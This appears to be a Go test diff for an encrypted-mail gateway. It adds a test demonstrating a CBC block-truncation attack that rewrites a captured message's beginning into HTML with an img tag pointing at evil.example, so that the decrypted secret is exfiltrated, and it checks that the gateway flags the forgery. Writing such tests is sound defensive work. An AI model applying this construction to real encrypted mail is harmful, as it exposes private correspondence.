@@ -198,3 +198,37 @@ func TestA04Rearranged(t *testing.T) {
 		}
 	}
 }
+
+// THREATS A04, a known limit: what CBC content begins with can be cut off at any block, and 16 octets put in its place,
+// without any noise. An attacker whose own words stand in the captured mail, whole and in front of what he wants, as
+// in an answer above a quotation that is followed by the same in HTML, makes a new mail of the rest. The gate cannot
+// tell; the results say that nobody signed it, and `unauthenticated = "keep"` for the partner keeps it shut.
+func TestA04BeginningCutOff(t *testing.T) {
+	l := theLab(t)
+	const head = "Content-Type: te" // 16 octets
+	bait := "xt/html\r\n\r\n<img src='http://evil.example/?"
+	var quotation strings.Builder
+	for range 16 { // one of them begins at a block
+		quotation.WriteString("0123456789abcdef " + bait + "\r\n")
+	}
+	text := "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n\r\n" +
+		"-----Original Message-----\r\n" + quotation.String() + "--b\r\nContent-Type: text/html\r\n\r\n<p>" + secret + "</p>'>\r\n--b--\r\n"
+	c := l.captured(t, text)
+	for at := 0; ; at++ {
+		next := strings.Index(text[at:], bait)
+		if next < 0 {
+			t.Fatal("no bait at a block")
+		}
+		at += next
+		if at%16 == 0 {
+			block := at / 16 // blocks[block] is the ciphertext of the 16 octets before the bait
+			iv := xor(c.blocks[block-1], []byte(text[at-16:at]), []byte(head))
+			d := l.deliver(t, from(eveAddress, c.entity(slices.Concat([][]byte{iv}, c.blocks[block:]))), "incapable")
+			if d.passed() || !strings.Contains(string(d.raw), `reason="encrypted but not domain-signed"`) {
+				t.Errorf("results %+v", d.results)
+			}
+			t.Logf("released: %v", bytes.Contains(d.raw, []byte(secret)))
+			return
+		}
+	}
+}
